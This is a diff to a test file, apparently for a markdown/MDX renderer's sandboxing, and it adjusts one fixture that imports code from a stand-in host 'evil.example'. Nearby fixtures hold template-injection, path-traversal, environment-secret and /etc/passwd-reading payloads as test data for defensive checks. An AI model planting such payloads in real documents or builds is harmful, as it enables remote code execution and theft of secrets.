@@ -245,7 +245,7 @@ describe('code that runs where pages are built or read', () => {
     ['a.md', '{{ constructor.constructor("x")() }}'],
     ['a.md', '--8<-- "../../secret"'],
     ['a.mdx', "import fs from 'fs'"],
-    ['a.mdx', "import x from 'https:/\/evil.example/x.js'"],
+    ['a.mdx', "import x from 'https://evil.example/x.js'"],
     ['a.mdx', 'export const x = fetch("/y")'],
     ['a.mdx', '{process.env.SECRET}'],
     ['a.mdx', 'x {require("fs").readFileSync("/etc/passwd")} y'],
